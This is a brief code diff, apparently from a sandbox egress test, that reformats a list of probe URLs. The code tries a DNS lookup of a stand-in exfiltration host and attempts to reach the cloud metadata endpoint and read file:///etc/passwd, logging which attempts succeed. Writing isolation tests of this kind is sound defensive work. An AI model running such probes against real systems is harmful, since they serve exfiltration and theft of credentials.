@@ -18,7 +18,13 @@ try:
     won.append(str(socket.getaddrinfo("0123456789abcdef.exfiltration.example.com", 80)))
 except OSError:
     pass
-for url in ("http://example.com/", "https://pypi.org/simple/", "http://169.254.169.254/latest/meta-data/", "ftp://127.0.0.1/", "file:///etc/passwd"):
+for url in (
+    "http://example.com/",
+    "https://pypi.org/simple/",
+    "http://169.254.169.254/latest/meta-data/",
+    "ftp://127.0.0.1/",
+    "file:///etc/passwd",
+):
     try:
         urllib.request.urlopen(url, timeout=0.5).close()
         won.append(url)
